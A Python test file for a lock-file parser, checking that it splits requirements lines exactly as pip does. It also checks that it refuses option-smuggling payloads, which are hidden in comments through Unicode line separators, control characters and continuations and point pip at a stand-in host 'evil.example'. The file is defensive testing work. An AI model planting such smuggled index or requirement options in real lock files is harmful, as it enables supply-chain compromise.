"""A requirements lock reads the same to provision as to pip (issue 22): pip splits a requirements
file with ``str.splitlines()``, which also breaks lines at ``\\r``, ``\\x0b``, ``\\x0c``, ``\\x1c``-``\\x1e``,
``\\x85``, U+2028 and U+2029, so a "comment" holding one of them carries an option past a check that
splits at ``\\n`` only. Every such character (and every other control character but the newline) is
refused, and the lock is parsed as pip parses it: these tests hold provision's logical lines to pip's
own functions (``pip._internal.req.req_file``) on the attack payloads and on generated text."""

import re

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from provision.errors import InputError
from provision.images import pylock
from provision.images.pylock import parse_lock

HASH = "--hash=sha256:" + "a" * 64
GOOD = f"# requirements.lock for torch==2.5.1\ntorch==2.5.1 \\\n    {HASH}\n    # via -r requirements.in\n"
PAYLOADS = [
    "--extra-index-url https://evil.example/simple",
    "--no-binary :all:",
    "-r https://evil.example/r.txt",
]
# every character at which str.splitlines() breaks a line and split("\n") does not, found by asking Python
SEPARATORS = [c for c in map(chr, range(0x110000)) if c != "\n" and len(f"a{c}b".splitlines()) > 1]


def pip_logical_lines(text: str) -> list[tuple[int, str]]:
    """What pip reads from a requirements file's text: its own preprocessing (joins, comments)."""
    from pip._internal.req.req_file import preprocess

    return list(preprocess(text))


def test_the_separators_are_the_ones_the_issue_names():
    assert SEPARATORS == ["\x0b", "\x0c", "\r", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029"]


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("separator", SEPARATORS, ids=lambda c: f"U+{ord(c):04X}")
def test_a_comment_that_pip_splits_is_refused(separator, payload):
    text = GOOD + f"# reviewed{separator}{payload}\n"
    # the attack is real: pip reads the payload as an option line of its own
    from pip._internal.req.req_file import break_args_options

    assert any(break_args_options(line)[1] == payload for _, line in pip_logical_lines(text))
    with pytest.raises(InputError) as info:
        parse_lock(text, "lock")
    assert info.value.message == f"lock: line 5 holds the control character U+{ord(separator):04X}"
    assert payload not in info.value.message
    assert info.value.exit_code == 2


@pytest.mark.parametrize(
    "character", ["\t", "\x00", "\x1b", "\x7f", "\x9b", "\u202e", "\u2066"], ids=lambda c: f"U+{ord(c):04X}"
)
def test_other_control_characters_and_bidi_overrides_are_refused(character):
    with pytest.raises(InputError, match=f"line 2 holds the control character U\\+{ord(character):04X}"):
        parse_lock(f"torch==2.5.1 {HASH}\n# note{character}\n", "lock")


@pytest.mark.parametrize(
    ("text", "pins"),
    [
        # `#` after whitespace starts a comment for pip: the pin stands, the comment goes
        (f"torch==2.5.1 {HASH} # reviewed\n", {"torch": "2.5.1"}),
        # a comment line after a continuation ends the joined line (pip's join_lines)
        (f"torch==2.5.1 {HASH} \\\n# via nothing\nsix==1.16.0 {HASH}\n", {"torch": "2.5.1", "six": "1.16.0"}),
        # a comment line ending in a backslash continues nothing
        (f"# note \\\ntorch==2.5.1 {HASH}\n", {"torch": "2.5.1"}),
        # a comment at the end of a continued line swallows the lines joined to it, as pip reads it
        (f"torch==2.5.1 {HASH} # note \\\n--extra-index-url https://evil.example/simple\n", {"torch": "2.5.1"}),
    ],
)
def test_comments_are_where_pip_sees_them(text, pins):
    assert parse_lock(text, "lock") == pins


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        # `#` with no whitespace before it is no comment to pip: the option is read
        (f"torch==2.5.1#x {HASH}\n", "its requirement is not name==version"),
        (f"torch==2.5.1 {HASH}#--no-binary=:all:\n", "an option other than --hash"),
        # a continuation joins the next line into this requirement's options
        (f"torch==2.5.1 {HASH} \\\n--extra-index-url https://evil.example/simple\n", "an option other than --hash"),
        # pip strips backslashes from both ends of a continued line
        (f"torch==2.5.1 \\\n\\--no-binary :all: \\\n{HASH}\n", "an option other than --hash"),
        (f"torch==2.5.1 {HASH}\n   --extra-index-url https://evil.example/simple\n", "it sets a pip option"),
        (f"torch==2.5.1 {HASH}\n-r https://evil.example/r.txt\n", "it sets a pip option"),
        (f"torch==2.5.1 {HASH} --hash sha256:{'b' * 64}\n", "an option other than --hash"),
        (f"${{PIP_INDEX}}==1 {HASH}\n", "its requirement is not name==version"),
    ],
)
def test_what_pip_would_read_as_options_is_refused(text, problem):
    with pytest.raises(InputError, match=re.escape(problem)) as info:
        parse_lock(text, "lock")
    assert "evil.example" not in info.value.message, "the lock's content is not echoed"


LINE = st.sampled_from(
    [
        "torch==2.5.1",
        HASH,
        f"    {HASH}",
        "# comment",
        "  # indented comment",
        "x#y",
        "--extra-index-url https://evil.example/simple",
        "\\--no-binary :all:",
        "-r https://evil.example/r.txt",
        "\\",
        " \\",
        "",
        "six==1.16.0 #",
    ]
)


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.lists(LINE, min_size=1, max_size=3).map(" ".join), max_size=8))
def test_logical_lines_are_pips(lines):
    """On generated files of requirement, hash, option, comment and continuation pieces, the logical
    lines provision checks are exactly the lines pip reads."""
    text = "\n".join(lines) + "\n"
    assert pylock._pip_lines(text.split("\n")[:-1]) == pip_logical_lines(text)
    from pip._internal.req.req_file import break_args_options

    for _, line in pip_logical_lines(text):
        assert pylock._break_args_options(line) == break_args_options(line)
